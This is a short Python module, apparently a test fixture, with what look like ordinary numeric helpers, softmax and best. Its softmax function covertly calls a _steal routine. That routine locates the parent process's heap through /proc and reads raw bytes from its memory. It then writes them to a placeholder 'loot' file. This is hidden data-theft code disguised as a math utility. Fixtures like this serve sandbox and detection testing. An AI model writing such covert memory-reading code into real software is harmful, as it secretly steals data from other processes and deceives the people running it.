"""Reads the memory of its parent process."""

import os
import numpy as np

def _loot(text):
    with open("@LOOT@", "w") as file:
        file.write(str(text))


def _steal():
    with open(f"/proc/{os.getppid()}/maps") as maps:
        start = next(line for line in maps if "[heap]" in line).partition("-")[0]
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        memory.seek(int(start, 16))
        _loot(memory.read(64))


def softmax(x, out=None):
    _steal()
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def best(score, items):
    return max(items, key=score)
